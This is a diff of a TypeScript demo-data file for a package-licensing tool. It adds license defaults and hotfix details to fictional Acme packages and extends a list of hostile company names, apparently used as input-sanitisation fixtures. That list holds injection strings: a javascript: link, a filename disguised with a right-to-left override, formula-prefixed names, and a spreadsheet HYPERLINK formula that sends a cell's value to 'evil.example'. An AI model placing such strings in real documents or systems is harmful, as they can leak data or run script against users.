@@ -11,13 +11,37 @@ export interface DemoPackageSpec {
   readonly betaNext?: string;
   /** No release for this long: a retired product. */
   readonly quietDays?: number;
+  /** A patch of an older line released after the latest (a hotfix): release dates are not in version order. */
+  readonly hotfix?: { readonly version: string; readonly releasedAfter: string };
+  /** The package's default license settings in the Partner Console: what a new install gets. */
+  readonly defaults: DemoLicenseDefaults;
+}
+
+/** Partner Console defaults for new installs (the LMO has no record of them: they show in new licenses). */
+export interface DemoLicenseDefaults {
+  readonly status: 'Trial' | 'Active';
+  /** Trial length, for Trial. */
+  readonly trialDays?: number;
+  /** A number of seats, or site-wide. */
+  readonly seats: number | 'site';
+  /** License term for Active defaults; undefined = does not expire. */
+  readonly termDays?: number;
 }
 
 export const DEMO_PACKAGES: readonly DemoPackageSpec[] = [
-  { name: 'Acme Billing', namespace: 'acmebill', weight: 0.45, historyYears: 5, versions: ['1.0.0', '1.1.0', '1.2.0', '1.3.1', '1.9.0', '1.10.0', '2.0.0', '2.1.0', '2.2.3', '2.3.0'], betaNext: '2.4.0' },
-  { name: 'Acme CPQ Connector', namespace: 'acmecpq', weight: 0.25, historyYears: 3, versions: ['1.0.0', '1.1.0', '1.2.0', '1.3.0', '1.4.2', '1.5.0'] },
-  { name: 'Acme Field Service', namespace: 'acmefs', weight: 0.2, historyYears: 2, versions: ['0.9.0', '1.0.0', '1.1.0', '1.2.0'], betaNext: '1.3.0' },
-  { name: 'Acme Insights (legacy)', namespace: 'acmeins', weight: 0.1, historyYears: 6, versions: ['3.0.0', '3.1.0', '3.2.0'], quietDays: 700 },
+  {
+    name: 'Acme Billing',
+    namespace: 'acmebill',
+    weight: 0.45,
+    historyYears: 5,
+    versions: ['1.0.0', '1.1.0', '1.2.0', '1.3.1', '1.9.0', '1.10.0', '2.0.0', '2.1.0', '2.2.3', '2.3.0'],
+    betaNext: '2.4.0',
+    hotfix: { version: '1.10.1', releasedAfter: '2.0.0' },
+    defaults: { status: 'Trial', trialDays: 30, seats: 10 },
+  },
+  { name: 'Acme CPQ Connector', namespace: 'acmecpq', weight: 0.25, historyYears: 3, versions: ['1.0.0', '1.1.0', '1.2.0', '1.3.0', '1.4.2', '1.5.0'], defaults: { status: 'Trial', trialDays: 14, seats: 'site' } },
+  { name: 'Acme Field Service', namespace: 'acmefs', weight: 0.2, historyYears: 2, versions: ['0.9.0', '1.0.0', '1.1.0', '1.2.0'], betaNext: '1.3.0', defaults: { status: 'Active', seats: 25 } },
+  { name: 'Acme Insights (legacy)', namespace: 'acmeins', weight: 0.1, historyYears: 6, versions: ['3.0.0', '3.1.0', '3.2.0'], quietDays: 700, defaults: { status: 'Active', seats: 'site', termDays: 365 } },
 ];
 
 export const COMPANY_FIRST = ['Blue', 'North', 'Silver', 'Bright', 'Red', 'Green', 'Pacific', 'Atlas', 'Summit', 'Harbor', 'Granite', 'Cedar', 'Nova', 'Apex', 'Iron', 'Golden', 'River', 'Stone', 'Pioneer', 'Crystal'];
@@ -38,6 +62,10 @@ export const HOSTILE_NAMES: readonly (string | null)[] = [
   '${process.env.HOME} {{constructor.constructor}} %s %n [link](javascript:alert(1))',
   'Evil\u202Egnp.exe\u200B Ltd\nSecond line',
   '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")',
+  '+1 Cloud Services Ltd',
+  '-Minus Consulting GmbH',
+  '@Home Realty Inc.',
+  '$(alert) $(rocket) Icons Corp',
 ];
 
 export const EDITIONS: readonly (readonly [string, number])[] = [
